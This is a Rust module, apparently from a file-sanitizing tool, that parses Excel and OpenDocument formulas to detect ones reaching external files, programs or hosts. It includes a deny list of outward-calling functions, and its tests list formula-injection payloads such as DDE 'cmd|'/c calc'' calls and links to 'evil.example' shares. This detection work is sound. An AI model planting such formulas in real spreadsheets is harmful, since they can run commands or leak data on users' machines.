//! Formulas of spreadsheets: whether one asks another file, program or machine.
//!
//! A formula is taken apart as spreadsheets do: texts in double quotes, names of sheets in single ones, brackets, words. What
//! cannot be taken apart so, or is read in different ways by different programs, counts as asking: its value stays in
//! its place.
//!
//! Grammars: ECMA-376 part 1, 18.17; OASIS OpenDocument 1.3 part 4, 5.

/// Which brackets a formula has.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Grammar {
    /// Excel's: of other books, and behind a table's name of its columns.
    Excel,
    /// OpenFormula's: of references.
    OpenDocument,
}

/// Functions that call out, without what stands before their names.
const FUNCTIONS: &[&str] = &[
    "WEBSERVICE",
    // LibreOffice opens what its text names, wherever that is.
    "INDIRECT",
    "RTD",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "EXEC",
    "EXECUTE",
    "FOPEN",
    "IMAGE",
    "DDE",
    "DDEAUTO",
    "INITIATE",
    "REQUEST",
    "POKE",
    "SQL.REQUEST",
    "RUN",
    "EVALUATE",
    "STOCKHISTORY",
    "TRANSLATE",
    "DETECTLANGUAGE",
    "COPILOT",
    "PY",
    "IMPORTXML",
    "IMPORTHTML",
    "IMPORTDATA",
    "IMPORTFEED",
    "IMPORTRANGE",
    "MACRO",
];

/// What stands before names of functions, by the program that has them.
const BEFORE: &[&str] = &["_XLFN.", "_XLWS.", "COM.MICROSOFT.", "ORG.OPENOFFICE.", "ORG.LIBREOFFICE."];

/// What stands after the sign of an error.
const ERRORS: &[&str] = &[
    "REF!",
    "N/A",
    "NAME?",
    "VALUE!",
    "DIV/0!",
    "NUM!",
    "NULL!",
    "SPILL!",
    "CALC!",
    "FIELD!",
    "BLOCKED!",
    "CONNECT!",
    "UNKNOWN!",
    "GETTING_DATA",
];

/// Whether a formula asks another file, program or machine.
pub(super) fn calls_out(formula: &str, grammar: Grammar) -> bool {
    let mut reading = Reading { rest: formula, before: ' ', rows: 0, grammar };
    while !reading.rest.is_empty() {
        if reading.part().is_none() {
            return true;
        }
    }
    false
}

struct Reading<'f> {
    rest: &'f str,
    /// The letter before.
    before: char,
    /// How deep within written tables, whose rows are divided by bars in OpenDocument.
    rows: u32,
    grammar: Grammar,
}

fn is_word(letter: char) -> bool {
    letter.is_alphanumeric() || matches!(letter, '_' | '.' | '?')
}

impl<'f> Reading<'f> {
    fn skip(&mut self, bytes: usize) -> &'f str {
        let (passed, rest) = self.rest.split_at(bytes);
        self.before = passed.chars().next_back().unwrap_or(self.before);
        self.rest = rest;
        passed
    }

    /// Passes one part; nothing if it calls out.
    fn part(&mut self) -> Option<()> {
        let letter = self.rest.chars().next()?;
        match letter {
            '"' => self.quoted('"').map(drop),
            '\'' => self.sheet(),
            '[' if self.grammar == Grammar::Excel => self.table(),
            '[' => self.reference(),
            '|' | '｜' if self.grammar == Grammar::Excel || self.rows == 0 => None,
            // A path.
            '\\' => None,
            '/' if self.rest.starts_with("//") => None,
            ']' => None,
            '#' => self.error(),
            '{' | '}' => {
                self.rows = if letter == '{' { self.rows + 1 } else { self.rows.saturating_sub(1) };
                self.skip(1);
                Some(())
            }
            letter if is_word(letter) => self.word(),
            letter => {
                self.skip(letter.len_utf8());
                Some(())
            }
        }
    }

    /// What stands in quotes, which are written twice within; nothing if they do not end.
    fn quoted(&mut self, quote: char) -> Option<&'f str> {
        let inside = self.rest.get(1..)?;
        let mut from = 0;
        loop {
            let end = from + inside[from..].find(quote)?;
            if inside[end + 1..].starts_with(quote) {
                from = end + 2;
                continue;
            }
            self.skip(end + 2);
            return Some(&inside[..end]);
        }
    }

    /// The name of a sheet in quotes. Names of sheets have none of the signs that paths and books have.
    fn sheet(&mut self) -> Option<()> {
        let name = self.quoted('\'')?;
        let is_path =
            name.contains(['[', ']', '\\', '/', '*', '?', '|', '｜', '#']) || name.contains("file:");
        // A name that a program is asked for would come next.
        (!is_path && !self.calls_behind()).then_some(())
    }

    /// Whether a function follows that belongs to another book.
    fn calls_behind(&self) -> bool {
        let Some(rest) = self.rest.trim_start().strip_prefix('!') else { return false };
        let word = rest.trim_start_matches(is_word);
        word.len() < rest.len() && word.trim_start().starts_with('(')
    }

    /// Brackets of Excel: columns of the table whose name stands before, or another book.
    fn table(&mut self) -> Option<()> {
        let has_name = is_word(self.before) || self.before == ']';
        let is_row = self.rest.starts_with("[#") || self.rest.starts_with("[@");
        // This book by its number, as charts write it.
        if self.rest.starts_with("[0]!") {
            self.skip(4);
            return Some(());
        }
        let (mut depth, mut all) = (0_u32, self.rest.char_indices());
        let end = loop {
            match all.next()? {
                (_, '[') => depth += 1,
                (at, ']') => {
                    depth -= 1;
                    if depth == 0 {
                        break at + 1;
                    }
                }
                // Before a sign that is meant as a letter. Others are read in more than one way.
                (_, '\'') => {
                    all.next().filter(|(_, letter)| matches!(letter, '[' | ']' | '#' | '\'' | '@'))?;
                }
                (_, '"' | '|' | '\\') => return None,
                _ => {}
            }
        };
        self.skip(end);
        let goes_on = self.rest.starts_with(|letter| is_word(letter) || matches!(letter, '!' | '\'' | '$'));
        ((has_name || is_row) && !goes_on).then_some(())
    }

    /// Brackets of OpenFormula: cells, of this document if no file stands before.
    fn reference(&mut self) -> Option<()> {
        self.skip(1);
        let mut is_empty = true;
        loop {
            let letter = self.rest.chars().next()?;
            match letter {
                ']' if is_empty => return None,
                ']' => break,
                '\'' => self.sheet()?,
                '#' => self.error()?,
                letter if is_word(letter) || matches!(letter, '$' | ':' | ' ' | '!' | '-') => {
                    self.skip(letter.len_utf8());
                }
                _ => return None,
            }
            // A number alone is another book, as Excel writes it.
            is_empty &= letter.is_ascii_digit() || letter == ' ';
        }
        self.skip(1);
        (!self.rest.starts_with(|letter| is_word(letter) || matches!(letter, '\'' | '$'))).then_some(())
    }

    /// The sign of an error, or the one behind a cell from which others are filled.
    fn error(&mut self) -> Option<()> {
        let is_filled = is_word(self.before) || self.before == ')';
        self.skip(1);
        if let Some(error) = ERRORS.iter().find(|error| self.rest.starts_with(**error)) {
            self.skip(error.len());
            return Some(());
        }
        let goes_on = self.rest.starts_with(|letter| is_word(letter) || matches!(letter, '$' | '\''));
        (is_filled && !goes_on).then_some(())
    }

    /// A name, a number, or a function if a bracket follows.
    fn word(&mut self) -> Option<()> {
        let is_behind = self.before == '!';
        let end = self.rest.find(|letter| !is_word(letter)).unwrap_or(self.rest.len());
        let word = self.skip(end);
        let behind = self.rest.trim_start();
        let Some(arguments) = behind.strip_prefix(['(', '（']) else {
            // The sheet of another book's function.
            return (!self.calls_behind() || self.grammar == Grammar::OpenDocument).then_some(());
        };
        if is_behind && self.grammar == Grammar::Excel {
            return None;
        }
        // Programs take full-width letters for these as well.
        let narrow = |letter: char| match letter {
            '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(letter) - 0xfee0).unwrap_or(letter),
            letter => letter,
        };
        let upper: String = word.chars().map(narrow).collect::<String>().to_uppercase();
        let mut name = upper.as_str();
        while let Some(bare) = BEFORE.iter().find_map(|before| name.strip_prefix(before)) {
            name = bare;
        }
        let is_of_others =
            name.starts_with("_XLL.") || name.starts_with("COM.SUN.") || name.starts_with("CUBE");
        let leads_away = name == "HYPERLINK" && !is_open_address(arguments);
        (!FUNCTIONS.contains(&name) && !is_of_others && !leads_away).then_some(())
    }
}

/// Whether the first argument of a link begins with where it may lead: a machine by its whole name, or a place of this file.
fn is_open_address(arguments: &str) -> bool {
    let Some(text) = arguments.trim_start().strip_prefix('"') else { return false };
    let Some((address, behind)) = text.split_once('"') else { return false };
    let is_whole = behind.trim_start().starts_with([',', ';', ')']);
    let address = address.trim().to_ascii_lowercase();
    // More may be put behind it; then the machine's name must have ended.
    let names_machine = address.splitn(3, '/').nth(2).is_some_and(|rest| rest.contains('/'));
    address.starts_with('#') && !address.contains("script:")
        || address.starts_with("mailto:")
        || super::address::is_open(&address) && (is_whole || names_machine)
}

#[cfg(test)]
mod tests {
    use super::{Grammar::*, *};

    #[test]
    fn formulas_of_excel_that_call_out_are_known_in_every_spelling() {
        for formula in [
            "[1]Sheet1!A1",
            " [1]Sheet1!A1",
            "SUM( [1]Sheet1!A1)",
            "A1+[ 1]Sheet1!A1",
            "'[2]表 1'!$A$1",
            "[1]!Name",
            "[Book.xlsx]S!A1",
            "'\\\\evil.example\\share\\[a.xlsx]S'!A1",
            "'http://h/[a.xlsx]S'!A1",
            "'c:\\x\\[a.xlsx]S'!A1",
            "\\\\evil\\s[a.xlsx]S!A1",
            "http://h/a[b.xlsx]S!A1",
            "'x.xla'!Run(1)",
            "x.xla!Run(1)",
            "cmd|'/c calc'!A0",
            "'cmd|/c calc'!A0",
            "IF('a\"b'!A1,cmd|'/c calc'!A0,\"x\")",
            "IF('it''s \"'!A1,cmd|'/c calc'!A0,\"x\")",
            "IF(1,T[a\"b]&cmd|'/c calc'!A0,\"\")",
            "WEBSERVICE(A1)",
            "_xlfn.WEBSERVICE (\"http://x\")",
            "_xlfn._xlws.webservice\n(A1)",
            "COM.MICROSOFT.WEBSERVICE(A1)",
            "ＷＥＢＳＥＲＶＩＣＥ(A1)",
            "IF('a\"b'!A1,WEBSERVICE(\"http://x\"),1)",
            "RTD(\"x\",,\"y\")",
            "SUM(OFFSET(INDIRECT(\"'http://x/[a.xlsx]S'!A1\"),1,1))",
            "INDIRECT(B1)",
            "HYPERLINK(\"file:///c:/x\")",
            "HYPERLINK(\"\\\"&\"\\evil.example\\s\\run.exe\",\"x\")",
            "HYPERLINK(A1)",
            "HYPERLINK(\"http://\"&A1)",
            "_xll.Func(1)",
            "'never ends",
            "\"never ends",
        ] {
            assert!(calls_out(formula, Excel), "{formula}");
        }
        for formula in [
            "SUM(A1:B2)",
            "表1[1]",
            "\"a|b\"&A1",
            "\"it's\"&'表 1'!A1&\"[1]S!A1\"",
            "'it''s'!A1",
            "Table1[[#This Row],[1]]",
            "Table1[[#Headers],[a'[b]]",
            "SUM(Table1[@Col])",
            "IF(ISERROR(A1),#N/A,#DIV/0!)",
            "A1#",
            "{1,2;3,4}",
            "A1/B1*100%",
            "[0]!Name",
            "CALLS(1)",
            "HYPERLINK(\"https://x/\")",
            "HYPERLINK(\"https://x/?q=\"&A1,\"地図\")",
            "HYPERLINK(\"#表!A1\",\"戻る\")",
            "TEXT(A1,\"yyyy/m/d\")&\"http://x\"",
        ] {
            assert!(!calls_out(formula, Excel), "{formula}");
        }
    }

    #[test]
    fn formulas_of_opendocument_that_call_out_are_known_in_every_spelling() {
        for formula in [
            "of:=DDE(\"soffice\";\"/tmp/x.ods\";\"a\")",
            "of:=DDE (\"soffice\";\"/tmp/x.ods\";\"a\")",
            "of:=['file:///tmp/x.ods'#$Sheet1.A1]",
            "of:=['x.ods'#$Sheet1.A1]",
            "of:=['x.ods' # $Sheet1.A1]",
            "of:=[x.ods#Sheet1.A1]",
            "oooc:='file:///x.ods'#Sheet1.A1",
            "of:=WEBSERVICE([.A1])",
            "of:=INDIRECT(\"'http://x/'#$src.A1\")",
            "of:=COM.MICROSOFT.WEBSERVICE ([.A1])",
            "of:=IF([$'a\"b'.B1]=0;WEBSERVICE(\"http://x\");1)",
            "of:=cmd|'/c calc'!A0",
            "of:='\\\\evil\\[a.xlsx]S'!A1",
            "of:=[1]Sheet!A1",
            "of:=HYPERLINK(\"file:///c:/x\")",
        ] {
            assert!(calls_out(formula, OpenDocument), "{formula}");
        }
        for formula in [
            "of:=SUM([.A1:.B2])",
            "of:={1;2|3;4}",
            "of:=[$'表 1'.A1]&\"a|b\"",
            "of:=[$'it''s \"'.$A$1:.$B$2]",
            "of:=IF([.A1]=0;#REF!;1)",
            "of:=SUM([.#REF!A1])+[#REF!.A1]",
            "of:=SUM([.A1:.B2]![.B2:.C3])",
            "of:=HYPERLINK(\"https://www.city.kanazawa.lg.jp/\")",
            "ooow:<A1>+<B2>/2",
            "cell-content()>10",
            "is-true-formula([.A1]=0)",
        ] {
            assert!(!calls_out(formula, OpenDocument), "{formula}");
        }
    }

    #[test]
    fn a_long_formula_is_read_in_time_that_grows_with_it() {
        for piece in ["[", "'", "\"", "a(", "a!", "[a]", "(", " (", "a ", "#"] {
            let begun = std::time::Instant::now();
            calls_out(&piece.repeat((1 << 17) / piece.len()), Excel);
            calls_out(&piece.repeat((1 << 17) / piece.len()), OpenDocument);
            assert!(begun.elapsed() < std::time::Duration::from_secs(5), "{piece}");
        }
    }
}
